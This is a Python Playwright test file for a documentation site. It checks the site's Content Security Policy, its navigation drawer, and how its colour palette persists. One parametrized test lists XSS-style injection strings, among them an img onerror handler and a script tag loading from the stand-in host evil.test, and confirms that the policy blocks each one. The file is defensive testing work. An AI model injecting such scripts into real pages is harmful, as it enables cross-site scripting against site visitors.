"""The content security policy: it holds, and nothing that a page does runs into it.

A violation is an error on the console, for which the fixture ``page`` fails a test.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.kinds import KINDS, TOPIC

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from tests.browser.observation import Observation


@pytest.mark.parametrize("path", KINDS)
def test_every_page_works_under_its_policy(page: Page, site_address: str, path: str) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(site_address + path)
    policy = page.locator("head > meta[charset] + meta[http-equiv='Content-Security-Policy']")
    expect(policy).to_have_attribute("content", re.compile("^default-src 'none'; script-src 'self'"))
    assert "unsafe-inline" not in (policy.get_attribute("content") or "")
    page.get_by_role("button", name="Navigation").click()
    expect(page.locator("#__drawer")).to_be_checked()
    page.locator("label.md-overlay").click(position={"x": 380, "y": 400})
    expect(page.locator("#__drawer")).not_to_be_checked()
    page.emulate_media(media="print")
    page.pdf()


def test_a_chosen_palette_lasts_from_page_to_page(page: Page, site_address: str) -> None:
    page.emulate_media(color_scheme="light")
    page.goto(site_address)
    shown = page.locator("[data-md-component='palette'] label:visible")
    for _ in range(2):
        shown.click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.goto(site_address + TOPIC)
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert page.evaluate("__md_get('__palette').color.scheme") == "slate"


def test_the_system_palette_follows_the_system(page: Page, site_address: str) -> None:
    page.emulate_media(color_scheme="light")
    page.goto(site_address)
    page.emulate_media(color_scheme="dark")
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.text = 'window.ran = true'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.ran = true\">')",
        (
            "const s = document.createElement('script'); s.src = 'https://evil.test/x.js';"
            " document.body.append(s)"
        ),
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\" id=styled>x</p>')",
    ],
)
def test_an_injected_script_or_style_does_nothing(
    page: Page, site_address: str, observation: Observation, attack: str
) -> None:
    page.goto(site_address + TOPIC)
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(f"() => {{ {attack} }}")
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.querySelector('#styled')?.style.color || ''") == ""
    assert any("Content Security Policy" in error for error in observation.console_errors)
    observation.clear()
